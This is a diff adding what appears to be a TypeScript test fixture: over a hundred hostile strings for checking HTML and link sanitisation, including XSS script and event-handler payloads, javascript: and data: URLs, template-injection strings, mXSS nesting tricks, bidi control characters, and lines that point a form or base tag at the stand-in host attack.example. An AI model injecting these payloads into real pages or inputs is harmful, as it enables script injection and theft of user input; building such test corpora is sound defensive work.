@@ -1,0 +1,55 @@
+const markup = [
+  '<script>alert(1)</script>',
+  '"><script src=//attack.example></script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<a href="javascript:alert(1)">اضغط</a>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<template><script>alert(1)</script></template>',
+  '</textarea><script>alert(1)</script>',
+  '</bdi></li></ol><b>خارج</b>',
+  '<style>*{display:none}</style>',
+  '<base href="//attack.example/">',
+  '<form action=//attack.example><input name=code>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<!--><script>alert(1)</script>-->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '$\u007balert(1)}',
+  '{{constructor.constructor("alert(1)")()}}',
+  '<?lit$123$?>',
+  '<shura-poll poll="x"></shura-poll>',
+];
+const links = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  'java\tscript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'vbscript:msgbox(1)',
+  'https://javascript:alert(1)@attack.example/"onmouseover=alert(1)',
+  "http://attack.example/'><script>alert(1)</script>",
+  'https://',
+  'http://[',
+  '//attack.example',
+];
+const invisible = [
+  '\u202e',
+  '\u2066\u2066\u2066',
+  '\u2069\u2069',
+  '\u0000',
+  '\ufeff',
+  '\u200f\u202d',
+  '\ud800',
+  '\u061c',
+];
+
+/** More than a hundred texts that would do harm where words are taken for anything but words. */
+export const attacks: readonly string[] = [
+  ...markup,
+  ...links,
+  ...markup.map((one) => `${one.replaceAll('<', '&lt;')} &#60;script&#62;`),
+  ...markup.map((one, at) => `${invisible[at % invisible.length]}${one}${links[at % links.length]}`),
+  ...links.flatMap((one) => [`انظروا ${one} ففيه المزيد`, `${one}" onclick="alert(1)`]),
+  ...invisible.map((one) => `مقترح ${one} نص بعده`),
+  ...invisible.map((one) => `${one.repeat(40)}suggestion`),
+];
